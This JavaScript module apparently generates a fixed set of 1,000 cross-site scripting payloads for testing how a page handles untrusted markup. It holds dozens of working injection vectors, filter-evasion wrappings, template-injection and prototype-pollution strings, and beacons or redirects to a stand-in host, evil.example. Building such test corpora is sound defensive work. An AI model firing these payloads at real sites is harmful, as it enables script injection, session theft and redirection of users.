// SPDX-License-Identifier: Apache-2.0
// A thousand texts that would run or add something where a page builds markup from what it is given: vectors, each with several
// scripts, in several wrappings that break out of where a text may stand. The list is the same in every run.

export const COUNT = 1000;

const scripts = [
  'alert(1)',
  'globalThis.pwned=1',
  "fetch('/pwned')",
  "new Image().src='https://evil.example/pwned'",
  "document.body.append('pwned')",
  'top.location="//evil.example"',
];

const vectors = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg onload='${run}'>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<a href="javascript:${run}">click</a>`,
  (run) => `<a href="https://evil.example/" onclick="${run}">click</a>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<select autofocus onfocus="${run}"><option>`,
  (run) => `<textarea autofocus onfocus="${run}"></textarea>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src onloadstart="${run}">`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>go</button></form>`,
  (run) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  (run) => `<style>@import 'https://evil.example/x.css';</style><b style="animation:x" onanimationstart="${run}">`,
  (run) => `<link rel=stylesheet href="//evil.example/x.css" onload="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="//evil.example/"><script src="x.js"></script>${run}`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<p style="background:url(https://evil.example/x)" onmouseover="${run}">over</p>`,
  (run) => `<dialog open onclose="${run}"><form method=dialog><button autofocus>`,
  (run) => `<x contenteditable onblur="${run}" tabindex=1 autofocus>`,
  (run) => `https://evil.example/"onmouseover="${run}`,
  (run) => `https://evil.example/'><img src=x onerror=${run}>`,
  (run) => `[click](javascript:${run})`,
  (run) => `![x](https://evil.example/x.png"onerror="${run})`,
];

const wrappings = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `--></title></style></script></textarea>${text}`,
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => encodeURIComponent(text).slice(0, 400),
  (text) => text.replace(/[a-z]/gi, (letter, place) => (place % 2 ? letter.toUpperCase() : letter.toLowerCase())),
  (text) => `\u202e${text}\u202c ${text.replace(/</g, '\uff1c')}`,
  (text) => `{{constructor.constructor('${text.replace(/'/g, '')}')()}} \${7*7} {from_user} __proto__`,
  (text) => text.replace(/script/gi, 'scr\tipt').replace(/ /g, '/'),
  (text) => `a\n${text}\nb`,
  (text) => `{"text":"${text}"}`,
];

function generate() {
  const all = [];
  for (const wrap of wrappings) for (const run of scripts) for (const vector of vectors) all.push(wrap(vector(run)));
  const step = all.length / COUNT;
  return Array.from({ length: COUNT }, (_, place) => all[Math.floor(place * step)]);
}

/** COUNT different texts, none with white space at its ends: the page cuts that off before it sends. */
export const payloads = [...new Set(generate().map((text, place) => `${text.trim()} ${place}`))];
